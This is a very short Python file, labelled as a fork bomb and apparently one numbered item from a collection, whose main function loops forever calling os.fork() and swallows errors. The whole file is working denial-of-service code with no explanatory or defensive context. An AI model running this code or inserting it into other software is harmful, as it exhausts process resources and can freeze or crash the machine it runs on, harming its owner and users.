# 4 fork bomb
import os

def main(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
